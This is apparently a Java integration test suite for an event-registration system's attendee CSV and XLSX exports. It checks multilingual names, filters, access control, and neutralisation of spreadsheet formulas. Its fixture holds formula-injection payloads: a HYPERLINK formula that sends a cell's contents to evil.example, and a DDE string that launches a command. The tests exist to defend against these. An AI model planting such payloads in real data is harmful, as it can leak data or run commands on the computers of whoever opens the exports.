package org.cti.convene.registration;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.cti.convene.events.Events;
import org.cti.convene.staff.StaffAccounts;
import org.cti.convene.support.Delegates;
import org.cti.convene.support.IntegrationTest;
import org.cti.convene.support.PublishedEvents;
import org.cti.convene.support.Staff;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.test.web.reactive.server.EntityExchangeResult;
import org.springframework.test.web.reactive.server.WebTestClient;
import org.springframework.web.util.UriBuilder;

/**
 * The attendee exports of the API, read back as a spreadsheet would read them: names in every script intact,
 * the list's filters applied, and nothing a delegate typed ever runs as a formula.
 */
@IntegrationTest
class ExportApiTests {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")";

    @Autowired
    WebTestClient client;

    @Autowired
    StaffAccounts accounts;

    @Autowired
    Events events;

    WebTestClient organiser;
    UUID event;
    UUID opening;
    String slug;

    @BeforeEach
    void eventWithPeopleFromEverywhere() {
        Staff.ensure(accounts);
        organiser = Staff.as(client, Staff.ORGANISER);
        event = PublishedEvents.open(organiser, 50, true, false);
        var stored = events.find(event).block();
        slug = stored.slug();
        opening = stored.sessions().getFirst().id();

        register(person("عبد الله", "الحسيني", "EG"));
        register(person("小明", "王", "CN"));
        Map<String, Object> olga = person("Ольга", "Петрова", "RU");
        olga.put("sessionIds", List.of(opening));
        register(olga);
        // a speaker is a delegate the organisers gave that role
        giveRole(register(person("Zoë", "Núñez", "MX")), "SPEAKER");
        Map<String, Object> mallory = person("@SUM(1+1)", "Mallory", "GB");
        mallory.put("organisation", HYPERLINK);
        mallory.put("function", "-2+3");
        mallory.put("phone", "+41-22-917");
        mallory.put("dietary", "+cmd|' /C calc'!A0");
        register(mallory);
    }

    @Test
    void csvHasABomAHeaderAndEveryRegistrationWithNamesInAnyScript() throws IOException {
        EntityExchangeResult<byte[]> result = get("csv", u -> u);

        assertThat(result.getResponseHeaders().getContentType()).hasToString("text/csv;charset=UTF-8");
        assertThat(result.getResponseHeaders().getFirst(HttpHeaders.CONTENT_DISPOSITION))
                .isEqualTo("attachment; filename=\"" + slug + "-registrations.csv\"");
        assertThat(result.getResponseHeaders().getCacheControl()).contains("no-store");
        byte[] bytes = result.getResponseBody();
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);

        List<CSVRecord> rows = csv(bytes);
        assertThat(rows).hasSize(5);
        CSVRecord arabic = byFamily(rows, "الحسيني");
        assertThat(arabic.get("Given name")).isEqualTo("عبد الله");
        assertThat(arabic.get("Name on badge")).isEqualTo("عبد الله الحسيني");
        assertThat(arabic.get("Country code")).isEqualTo("EG");
        assertThat(arabic.get("Country")).isEqualTo("Egypt");
        assertThat(arabic.get("UN regional group")).isEqualTo("African Group");
        assertThat(arabic.get("Status")).isEqualTo("CONFIRMED");
        assertThat(arabic.get("Visa letter")).isEqualTo("no");
        assertThat(arabic.get("Registered at (Europe/Zurich)")).matches("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}");
        assertThat(byFamily(rows, "王").get("Given name")).isEqualTo("小明");
        CSVRecord olga = byFamily(rows, "Петрова");
        assertThat(olga.get("Given name")).isEqualTo("Ольга");
        assertThat(olga.get("Sessions")).isEqualTo("Opening");
        assertThat(byFamily(rows, "Núñez").get("Role")).isEqualTo("SPEAKER");
        assertThat(olga.toMap().keySet())
                .contains(
                        "Status",
                        "Honorific",
                        "Given name",
                        "Family name",
                        "Name on badge",
                        "Function",
                        "Organisation",
                        "Country code",
                        "Country",
                        "UN regional group",
                        "E-mail",
                        "Phone",
                        "Language",
                        "Role",
                        "Dietary needs",
                        "Accessibility needs",
                        "Visa letter",
                        "Sessions",
                        "Registration id");
    }

    @Test
    void csvNeutralisesEveryValueASpreadsheetWouldRunAsAFormula() throws IOException {
        CSVRecord mallory = byFamily(csv(get("csv", u -> u).getResponseBody()), "Mallory");

        assertThat(mallory.get("Given name")).isEqualTo("'@SUM(1+1)");
        assertThat(mallory.get("Organisation")).isEqualTo("'" + HYPERLINK);
        assertThat(mallory.get("Function")).isEqualTo("'-2+3");
        assertThat(mallory.get("Phone")).isEqualTo("'+41-22-917");
        assertThat(mallory.get("Dietary needs")).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(mallory.get("Name on badge")).as("starts with @ too").isEqualTo("'@SUM(1+1) Mallory");
    }

    @Test
    void csvAppliesTheListsFilters() throws IOException {
        assertThat(csv(get("csv", u -> u.queryParam("country", "CN")).getResponseBody()))
                .singleElement()
                .satisfies(r -> assertThat(r.get("Family name")).isEqualTo("王"));
        assertThat(csv(get("csv", u -> u.queryParam("q", "NUNEZ")).getResponseBody()))
                .singleElement()
                .satisfies(r -> assertThat(r.get("Given name")).isEqualTo("Zoë"));
        assertThat(csv(get("csv", u -> u.queryParam("role", "SPEAKER")).getResponseBody()))
                .extracting(r -> r.get("Family name"))
                .containsExactly("Núñez");
        assertThat(csv(get("csv", u -> u.queryParam("sessionId", opening)).getResponseBody()))
                .extracting(r -> r.get("Family name"))
                .containsExactly("Петрова");
        assertThat(csv(get("csv", u -> u.queryParam("status", "WAITLISTED")).getResponseBody()))
                .isEmpty();
        assertThat(csv(get("csv", u -> u.queryParam("sort", "COUNTRY").queryParam("descending", "true"))
                        .getResponseBody()))
                .extracting(r -> r.get("Country code"))
                .containsExactly("RU", "MX", "GB", "EG", "CN");
    }

    @Test
    void xlsxHasAFrozenFilteredHeaderAndOnlyPlainStringCells() throws IOException {
        EntityExchangeResult<byte[]> result = get("xlsx", u -> u);

        assertThat(result.getResponseHeaders().getContentType())
                .hasToString("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(result.getResponseHeaders().getFirst(HttpHeaders.CONTENT_DISPOSITION))
                .isEqualTo("attachment; filename=\"" + slug + "-registrations.xlsx\"");
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(result.getResponseBody()))) {
            XSSFSheet sheet = book.getSheet("Registrations");
            assertThat(sheet.getLastRowNum()).isEqualTo(5);
            Row header = sheet.getRow(0);
            assertThat(header.getCell(0).getStringCellValue()).isEqualTo("Status");
            assertThat(book.getFontAt(header.getCell(0).getCellStyle().getFontIndex())
                            .getBold())
                    .isTrue();
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
            assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:T6");
            int organisation = column(header, "Organisation");
            assertThat(sheet.getColumnWidth(organisation)).isGreaterThan(20 * 256);

            for (Row row : sheet) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType())
                            .as("cell %s", cell.getAddress())
                            .isNotEqualTo(CellType.FORMULA);
                }
            }
            Row mallory = rowOf(sheet, header, "Mallory");
            Cell hyperlink = mallory.getCell(organisation);
            assertThat(hyperlink.getCellType()).isEqualTo(CellType.STRING);
            assertThat(hyperlink.getStringCellValue()).isEqualTo(HYPERLINK);
            assertThat(hyperlink.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(mallory.getCell(column(header, "Given name")).getStringCellValue())
                    .isEqualTo("@SUM(1+1)");
            assertThat(mallory.getCell(column(header, "Phone")).getCellStyle().getQuotePrefixed())
                    .isTrue();

            Row arabic = rowOf(sheet, header, "الحسيني");
            assertThat(arabic.getCell(column(header, "Given name")).getStringCellValue())
                    .isEqualTo("عبد الله");
            assertThat(arabic.getCell(column(header, "Given name"))
                            .getCellStyle()
                            .getQuotePrefixed())
                    .isFalse();
            assertThat(rowOf(sheet, header, "王")
                            .getCell(column(header, "Given name"))
                            .getStringCellValue())
                    .isEqualTo("小明");
            assertThat(rowOf(sheet, header, "Петрова")
                            .getCell(column(header, "Given name"))
                            .getStringCellValue())
                    .isEqualTo("Ольга");
            Cell registered = arabic.getCell(column(header, "Registered at (Europe/Zurich)"));
            assertThat(registered.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(DateUtil.isCellDateFormatted(registered)).isTrue();
        }
    }

    @Test
    void xlsxAppliesTheListsFilters() throws IOException {
        byte[] bytes = get("xlsx", u -> u.queryParam("country", "RU")).getResponseBody();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
            XSSFSheet sheet = book.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).isEqualTo(1);
            assertThat(sheet.getRow(1)
                            .getCell(column(sheet.getRow(0), "Family name"))
                            .getStringCellValue())
                    .isEqualTo("Петрова");
        }
    }

    @Test
    void anOrganiserLimitedToAnotherEventGets404AndStrangers401() {
        UUID other = PublishedEvents.open(organiser, 10, true, false);
        WebTestClient partner = Staff.as(client, Staff.scopedOrganiser(accounts, other));

        for (String path : List.of("registrations.csv", "registrations.xlsx", "registrations", "counts")) {
            partner.get()
                    .uri("/api/v1/admin/events/{id}/" + path, event)
                    .exchange()
                    .expectStatus()
                    .isNotFound();
            client.get()
                    .uri("/api/v1/admin/events/{id}/" + path, event)
                    .exchange()
                    .expectStatus()
                    .isUnauthorized();
        }
        partner.get()
                .uri("/api/v1/admin/events/{id}/registrations.csv", other)
                .exchange()
                .expectStatus()
                .isOk();
        Staff.as(client, Staff.CHECKIN)
                .get()
                .uri("/api/v1/admin/events/{id}/registrations.csv", event)
                .exchange()
                .expectStatus()
                .isForbidden();
    }

    @Test
    void anUnknownEventIs404() {
        organiser
                .get()
                .uri("/api/v1/admin/events/{id}/registrations.csv", UUID.randomUUID())
                .exchange()
                .expectStatus()
                .isNotFound();
    }

    private EntityExchangeResult<byte[]> get(String extension, Function<UriBuilder, UriBuilder> query) {
        return organiser
                .get()
                .uri(u -> query.apply(u.path("/api/v1/admin/events/{id}/registrations." + extension))
                        .build(event))
                .exchange()
                .expectStatus()
                .isOk()
                .expectBody(byte[].class)
                .returnResult();
    }

    private Object register(Map<String, Object> body) {
        return client.post()
                .uri("/api/v1/events/{id}/registrations", event)
                .bodyValue(body)
                .exchange()
                .expectStatus()
                .isCreated()
                .expectBody(Map.class)
                .returnResult()
                .getResponseBody()
                .get("id");
    }

    private void giveRole(Object registration, String role) {
        organiser
                .put()
                .uri("/api/v1/admin/registrations/{id}/role", registration)
                .bodyValue(Map.of("role", role))
                .exchange()
                .expectStatus()
                .isOk();
    }

    private static Map<String, Object> person(String given, String family, String country) {
        Map<String, Object> body = Delegates.person(given, family, country);
        body.put("email", "export-" + UUID.randomUUID() + "@example.org");
        return body;
    }

    static List<CSVRecord> csv(byte[] bytes) throws IOException {
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        CSVFormat format = CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get();
        try (CSVParser parser = CSVParser.parse(new StringReader(text.substring(1)), format)) {
            return parser.getRecords();
        }
    }

    private static CSVRecord byFamily(List<CSVRecord> rows, String family) {
        return rows.stream()
                .filter(r -> r.get("Family name").equals(family))
                .findFirst()
                .orElseThrow();
    }

    private static int column(Row header, String name) {
        for (Cell cell : header) {
            if (cell.getStringCellValue().equals(name)) {
                return cell.getColumnIndex();
            }
        }
        throw new AssertionError("no column " + name);
    }

    private static Row rowOf(XSSFSheet sheet, Row header, String family) {
        int column = column(header, "Family name");
        for (Row row : sheet) {
            if (row.getRowNum() > 0 && row.getCell(column).getStringCellValue().equals(family)) {
                return row;
            }
        }
        throw new AssertionError("no row for " + family);
    }
}
